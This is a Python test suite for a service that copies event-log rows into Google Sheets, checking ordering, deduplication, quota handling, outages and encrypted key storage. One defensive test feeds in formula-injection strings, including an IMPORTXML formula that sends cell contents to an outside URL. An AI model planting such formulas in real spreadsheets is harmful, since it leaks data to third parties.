"""Lines of the record arrive in the sheet: in order, as they are, once; whatever Google does meanwhile."""

import asyncio
import json
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from app.services.mirroring.columns import BROWSER, CONVERSATION, heading
from app.services.mirroring.desk import BROWSER_TAB, CONVERSATION_TAB
from app.store.secrets import Vault
from app.store.sheet_rows import SheetRows
from app.store.sheets import SheetBook, SheetTurns, Turn
from tests.services.mirroring.conftest import BOOK, Place

ANSWER = {
    "conversation": "n8n-77",
    "extracted_name": "Sofia",
    "candidate_username": "sofia1234",
    "generated_username": "sofia1234",
    "attempt": 1,
    "status": "success",
    "error_detail": "",
}
VISIT = {"username": "sofia1234", "operation": "create_user", "status": "success", "details": "", "operator": "admin"}


async def test_a_conversation_event_has_the_columns_that_operators_know(place: Place) -> None:
    await place.log("rpa_response", ANSWER, who="n8n")
    await place.carry()

    assert [cell["value"] for cell in (await whole(place, CONVERSATION_TAB))[0]] == heading(CONVERSATION)
    [row] = await place.rows()
    assert row[1:-1] == ["n8n-77", "rpa_response", "Sofia", "sofia1234", "sofia1234", 1, "success", ""]
    assert str(row[-1]).startswith("ponte-")


async def test_a_time_is_told_in_the_account_s_zone(place: Place) -> None:
    await place.log("rpa_response", ANSWER)
    await place.carry()

    [row] = await place.rows()
    told = datetime.fromisoformat(row[0])
    assert told.utcoffset() == datetime.now(ZoneInfo(place.account.timezone)).utcoffset()
    assert abs(told - datetime.now(UTC)) < timedelta(hours=1)


async def test_the_browser_s_events_have_a_tab_of_their_own(place: Place) -> None:
    await place.log("browser", VISIT, who="ponte")
    await place.carry()

    assert [cell["value"] for cell in (await whole(place, BROWSER_TAB))[0]] == heading(BROWSER)
    [row] = await place.browser_rows()
    assert row[1:-1] == ["sofia1234", "create_user", "success", "", "admin"]
    assert await place.rows() == []


async def test_what_looks_like_a_formula_arrives_as_the_text_it_is(place: Place) -> None:
    rude = ['=IMPORTXML("https://example.com/"&A1, "//a")', "+34 600", "@SUM(A1)", "'quoted", "-1+2", "007", "1/2"]
    for name in rude:
        await place.log("rpa_request", {"extracted_name": name})
    await place.carry()

    cells = [row[3] for row in await place.cells()]
    assert [cell["value"] for cell in cells] == rude
    assert {cell["kind"] for cell in cells} == {"text"}


async def test_other_lines_of_the_audit_stay_out_unless_they_are_asked_for(place: Place) -> None:
    await place.log("paused", {}, who="Ana", why="asked_for_person")
    await place.carry()
    assert await place.rows() == []

    await place.set(other_events=("paused",))
    await place.carry()
    [row] = await place.rows()
    assert (row[1], row[2], row[8]) == ("7", "paused", "asked_for_person") or (row[1], row[8]) == (
        7,
        "asked_for_person",
    )


async def test_a_request_that_a_flow_has_made_is_told_once(place: Place) -> None:
    told = {"extracted_name": "Sofia", "candidate_username": "sofia1234"}
    await place.log("rpa_request", told, who="flow")
    await place.log("rpa_request", told, who="ponte")
    await place.log("rpa_response", told | {"status": "success"}, who="ponte")
    await place.log("rpa_response", told | {"status": "success"}, who="flow")
    await place.carry()

    assert [row[2] for row in await place.rows()] == ["rpa_request", "rpa_response"]


async def test_what_came_of_a_replay_after_the_flow_was_told_an_error_is_shown_too(place: Place) -> None:
    told = {"extracted_name": "Sofia", "candidate_username": "sofia1234"}
    for what, who, more in (
        ("rpa_request", "flow", {}),
        ("rpa_request", "ponte", {}),
        ("rpa_response", "ponte", {"status": "error"}),
        ("rpa_response", "flow", {"status": "error"}),
        ("rpa_response", "ponte", {"status": "success"}),
    ):
        await place.log(what, told | more, who=who)
    await place.carry()

    seen = [(row[2], row[7]) for row in await place.rows()]
    assert seen == [("rpa_request", ""), ("rpa_response", "error"), ("rpa_response", "success")]


async def test_two_thousand_rows_that_waited_arrive_in_order_with_few_calls(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=2_000)
    await place.carry()

    assert await place.names() == [f"n{number}" for number in range(1, 2_001)]
    assert (await place.calls())["write"] <= 10
    assert await place.states() == {"done": 2_000}


async def test_two_workers_at_once_write_everything_once(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=1_200)
    await asyncio.gather(*(place.carry() for _ in range(4)))
    await place.carry()

    assert await place.names() == [f"n{number}" for number in range(1, 1_201)]


async def test_an_answer_that_was_lost_after_the_write_doubles_nothing(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=700)
    await place.carry()
    await place.log("rpa_request", {"extracted_name": "m%"}, n=700)
    for fault in ("lost", "error_after"):
        await place.steer("trouble", fault=fault)
        await place.carry()
        await place.rested()
    await place.carry()

    assert await place.names() == [f"{c}{n}" for c in "nm" for n in range(1, 701)]


async def test_a_write_that_did_nothing_is_done_later(place: Place) -> None:
    await place.carry()
    await place.log("rpa_request", {"extracted_name": "n%"}, n=3)
    await place.steer("trouble", fault="error_500", times=2)
    for _ in range(4):
        await place.carry()
        await place.rested()

    assert await place.names() == ["n1", "n2", "n3"]


async def test_a_worker_that_died_while_it_wrote_leaves_nothing_out_and_nothing_twice(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=3)
    await place.carry()
    await place.log("rpa_request", {"extracted_name": "n4"})
    # One died after its write, before it wrote down so; one before its write, and its turn has ended.
    sql = "update sheet_rows set state = 'sending' where event_id in ($1, $2)"
    await place.database.execute(sql, await nth(place, 2), await nth(place, 3))
    sql = "insert into sheet_rows (account_id, event_id, tab, state) values ($1, $2, 'conversation', 'sending')"
    await place.database.execute(sql, place.id, await nth(place, 4))
    await place.database.execute("update sheets set held_until = now() - interval '1 s'")
    await place.log("rpa_request", {"extracted_name": "n5"})
    await place.carry()

    assert await place.names() == ["n1", "n2", "n3", "n4", "n5"]


async def test_while_the_one_at_work_lives_nobody_else_writes(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n1"})
    await place.database.execute("update sheets set held_until = now() + interval '1 minute'")
    await place.carry()

    assert await place.rows() == []


async def test_a_quota_that_is_used_up_is_waited_for(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=1_600)
    await place.steer("quota", quota=6)  # the tabs and their headings cost four of them
    await place.carry()
    stopped_at = len(await place.names())
    calls = await place.calls()
    await place.carry()  # too soon: Google is not asked

    assert stopped_at == 1_000
    assert await place.calls() == calls
    await place.steer("quota", refill=True)
    await place.rested()
    await place.carry()
    assert await place.names() == [f"n{number}" for number in range(1, 1_601)]


async def test_operators_hear_once_that_google_is_down_and_once_that_it_is_back(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n1"})
    await place.steer("trouble", fault="error_500", times=8, what="read")
    for _ in range(8):
        await place.carry()
        await place.rested()
    assert await place.causes() == ["sheet_down"]
    assert (await place.rooms.desk.view(place.id)).failed_as == "sheet_down"

    await place.carry()
    assert await place.causes() == []
    assert await place.names() == ["n1"]


async def test_a_google_that_is_silent_is_given_up_after_its_budget(place: Place) -> None:
    place.budget = timedelta(seconds=0.3)
    await place.log("rpa_request", {"extracted_name": "n1"})
    await place.steer("trouble", fault="hang", what="read", seconds=30)
    await place.carry()

    assert (await place.rooms.desk.view(place.id)).failed_as == "sheet_down"


async def test_a_spreadsheet_that_is_not_shared_is_told_and_goes_on_when_it_is(place: Place) -> None:
    await place.steer("books", id=BOOK, editors=[])
    await place.log("rpa_request", {"extracted_name": "n1"})
    await place.carry()
    assert await place.causes() == ["sheet_refused"]

    await place.steer("books", id=BOOK, editors=[place.key["client_email"]])
    await place.rooms.desk.check(place.id)
    await place.carry()
    assert (await place.causes(), await place.names()) == ([], ["n1"])


async def test_a_token_that_has_ended_is_fetched_anew(place: Place) -> None:
    rooms = place.rooms
    await place.log("rpa_request", {"extracted_name": "n1"})
    await rooms.mirror.carry(place.id)
    await place.steer("quota", end_tokens=True)
    await place.log("rpa_request", {"extracted_name": "n2"})
    for _ in range(2):
        await rooms.mirror.carry(place.id)
        await place.rested()

    assert await place.names() == ["n1", "n2"]
    assert (await place.calls())["token"] == 2


async def test_what_operators_wrote_into_the_headings_stays(bare_place: Place) -> None:
    own = ["quando", "conversa", "evento", "nome", "candidato", "usuario", "tentativa", "estado", "erro"]
    await bare_place.steer("books", id=BOOK, editors=[bare_place.key["client_email"]], tabs=["Eventos"])
    await bare_place.steer(f"books/{BOOK}/rows", tab="Eventos", rows=[own])
    await bare_place.set(conversation_tab="Eventos")
    await bare_place.log("rpa_request", {"extracted_name": "n1"})
    await bare_place.carry()

    assert [cell["value"] for cell in (await whole(bare_place, "Eventos"))[0]] == [*own, "row_key"]
    assert [row[3] for row in await bare_place.rows("Eventos")] == ["n1"]


async def test_lines_that_commit_late_are_not_left_out(place: Place) -> None:
    async with place.database.transaction() as late:
        sql = "insert into event_log (account_id, who, what, details) values ($1, 'flow', 'rpa_request', $2)"
        await late.execute(sql, place.id, '{"extracted_name": "late"}')
        await place.log("rpa_request", {"extracted_name": "early"})
        await place.carry()
    await place.carry()

    assert await place.names() == ["early", "late"]


async def test_a_name_of_an_erased_person_is_taken_out_of_the_sheet(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=3)
    await place.carry()
    await place.database.execute("update sheet_rows set state = 'blank' where event_id = $1", await nth(place, 2))
    await place.carry()

    assert await place.names() == ["n1", "", "n3"]
    assert await place.states() == {"done": 2}


async def test_pruning_takes_only_what_is_in_the_sheet(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=3)
    await place.carry()
    await place.rested()
    await place.carry()
    await place.database.execute("update sheet_rows set created_at = now() - interval '3 days'")
    await place.database.execute("update sheet_rows set state = 'waiting' where event_id = $1", await nth(place, 3))
    await place.rooms.mirror.prune()

    assert await place.states() == {"waiting": 1}


OTHER = "2AnotherSpreadsheet"
LEASE = timedelta(seconds=90)


async def test_another_spreadsheet_gets_its_rows_at_once_although_somebody_is_at_the_old_one(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n1"})
    turns = SheetTurns(place.database)
    at_the_old_one = await turns.take(place.id, place.clock.now(), LEASE)
    assert at_the_old_one is not None
    await place.steer("books", id=OTHER, editors=[place.key["client_email"]])
    await place.set(spreadsheet=OTHER)
    await turns.give(at_the_old_one)
    await place.carry()

    there = (await place.player.http.get(f"/_sandbox/sheets/books/{OTHER}")).json()
    assert [row[3]["value"] for row in there[CONVERSATION_TAB][1:]] == ["n1"]
    assert not await turns.keep(at_the_old_one, LEASE)


async def test_whoever_comes_back_from_the_old_spreadsheet_marks_nothing_in_the_new_one(place: Place) -> None:
    await place.log("rpa_request", {"extracted_name": "n%"}, n=3)
    turns, rows = SheetTurns(place.database), SheetRows(place.database)
    taken: list[tuple[Turn, list[int]]] = []
    for spreadsheet in (BOOK, OTHER):
        await place.set(spreadsheet=spreadsheet)
        turn = await turns.take(place.id, place.clock.now(), LEASE)
        assert turn is not None
        await rows.collect(turn, place.clock.now(), most=500)
        taken.append((turn, (await rows.claim(turn, most=500))[1]))

    (late, written), (_, sending) = taken
    assert written == sending
    await rows.written(late, written, place.clock.now())
    await rows.unwritten(late, written)
    assert await place.states() == {"sending": 3}


async def test_a_key_of_its_own_is_kept_encrypted_and_shown_by_nothing(place: Place, secret_key: str) -> None:
    own = await place.player.steer("sheets/accounts", {"name": "own"})
    text = str(own["private_key"])
    await place.set(service_account=json.dumps(own))
    stored = await place.database.fetchval("select sealed_key from sheets")
    sheet = await SheetBook(place.database, Vault([secret_key])).get(place.id)
    view = await place.rooms.desk.view(place.id)
    audit = await place.database.fetchval("select string_agg(details::text, '') from event_log")

    assert (view.share_with, view.has_own_key) == (own["client_email"], True)
    assert sheet is not None
    opened = place.google.account_of(sheet.key or "")
    for shown in (stored, repr(sheet), repr(view), repr(opened), audit):
        assert "PRIVATE KEY" not in shown
        assert text[100:160] not in shown


async def whole(place: Place, tab: str) -> list[list[dict[str, object]]]:
    answer = await place.player.http.get(f"/_sandbox/sheets/books/{BOOK}")
    return answer.json()[tab]


async def nth(place: Place, number: int) -> int:
    """The id of the n-th line that flows wrote."""
    sql = "select id from event_log where who = 'flow' order by id offset $1 limit 1"
    return await place.database.fetchval(sql, number - 1)
